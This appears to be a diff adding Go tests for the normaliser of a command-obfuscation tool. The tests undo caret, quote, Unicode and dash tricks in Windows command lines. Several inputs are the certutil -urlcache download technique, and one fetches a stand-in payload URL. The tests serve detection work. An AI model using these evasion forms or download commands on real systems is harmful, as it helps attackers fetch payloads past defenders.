@@ -0,0 +1,94 @@
+package deobfuscate
+
+import (
+	"context"
+	"io/fs"
+	"slices"
+	"strings"
+	"testing"
+
+	"cmdFuscator/data"
+	"cmdFuscator/engine"
+	"cmdFuscator/loader"
+)
+
+func TestNormalize(t *testing.T) {
+	tests := []struct {
+		name  string
+		in    string
+		opts  []Option
+		want  string
+		steps []Step
+	}{
+		{"clean", "certutil -urlcache -f https://x a.txt", nil, "certutil -urlcache -f https://x a.txt", nil},
+		{"whitespace", "  certutil\t-urlcache   -f  ", nil, "certutil -urlcache -f", nil},
+		{"invisible", "cert\u200dutil -url\u2061cache \u00ad-f", nil, "certutil -urlcache -f", []Step{StepInvisible}},
+		{"unassigned", "-url\u0378cache", nil, "-urlcache", []Step{StepInvisible}},
+		{"superscripts", "-ᵘʳˡcache", nil, "-urlcache", []Step{StepCompat}},
+		{"fullwidth", "ｃｅｒｔｕｔｉｌ", nil, "certutil", []Step{StepCompat}},
+		{"dashes", "certutil –urlcache —f −split", nil, "certutil -urlcache -f -split", []Step{StepDashes}},
+		{"quoted dash", `certutil "–f"`, nil, "certutil -f", []Step{StepDashes, StepQuotes}},
+		{"dash inside word kept", "a–b", nil, "a–b", nil},
+		{"inserted quotes", `ce"rt"util "-urlcache" '-f'`, nil, "certutil -urlcache -f", []Step{StepQuotes}},
+		{"quotes protecting spaces", `dir "C:\Program Files\x"`, nil, `dir "c:\program files\x"`, []Step{StepCase}},
+		{"carets", "c^e^r^t^u^t^i^l -f", nil, "certutil -f", []Step{StepCarets}},
+		{"escaped caret kept", "echo a^^b", nil, "echo a^b", []Step{StepCarets}},
+		{"caret in quotes kept", `echo "a^b"`, nil, "echo a^b", []Step{StepQuotes}},
+		{"path traversal", `C:\Windows\..\Windows\\System32\.\certutil.exe`, nil, `c:\windows\system32\certutil.exe`, []Step{StepPaths, StepCase}},
+		{"posix path", "/usr//bin/../bin/id", nil, "/usr/bin/id", []Step{StepPaths}},
+		{"dot slash kept", "./x/../tool", nil, "./tool", []Step{StepPaths}},
+		{"switch is not a path", "certutil /urlcache /f", nil, "certutil /urlcache /f", nil},
+		{"case", "CertUtil -URLcache -F", nil, "certutil -urlcache -f", []Step{StepCase}},
+		{"url keeps case", "certutil -f https://X.example/Payload.TXT", nil, "certutil -f https://X.example/Payload.TXT", nil},
+		{"strip", "-urlͿcache", []Option{Strip("Ϳ", "x")}, "-urlcache", []Step{StepInvisible}},
+		{"keep case", "CertUtil -URLcache", []Option{KeepCase()}, "CertUtil -URLcache", nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := Normalize(tt.in, tt.opts...)
+			if got.Output != tt.want {
+				t.Errorf("Normalize(%q) = %q, want %q", tt.in, got.Output, tt.want)
+			}
+			if !slices.Equal(got.Steps, tt.steps) {
+				t.Errorf("steps = %v, want %v", got.Steps, tt.steps)
+			}
+		})
+	}
+}
+
+// TestNormalizeUndoesEngine checks that every variant the engine produces for
+// the bundled example commands normalizes to the same form as the original.
+func TestNormalizeUndoesEngine(t *testing.T) {
+	sub, err := fs.Sub(data.ModelFS, "models")
+	if err != nil {
+		t.Fatal(err)
+	}
+	profiles, err := loader.LoadFS(sub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng := engine.New(engine.WithRenderTarget(engine.TargetNone))
+	strip := Strip(InsertedChars(profiles)...)
+	for _, pf := range profiles {
+		p := pf.Profiles[0]
+		var words []string
+		for _, el := range p.Parameters.Command {
+			words = append(words, el.StringValue())
+		}
+		input := strings.Join(words, " ")
+		want := Normalize(input).Output
+
+		items := make([]engine.BatchItem, 50)
+		for i := range items {
+			items[i] = engine.BatchItem{Command: input, Profile: pf, Enabled: engine.DefaultEnabled(pf), Seed: int64(i + 1)}
+		}
+		for _, r := range eng.ObfuscateBatch(context.Background(), items) {
+			if r.Err != nil {
+				t.Fatalf("%s: %v", pf.Name, r.Err)
+			}
+			if got := Normalize(r.Result.Output, strip).Output; got != want {
+				t.Errorf("%s seed %d: Normalize(%q) = %q, want %q", pf.Name, r.Seed, r.Result.Output, got, want)
+			}
+		}
+	}
+}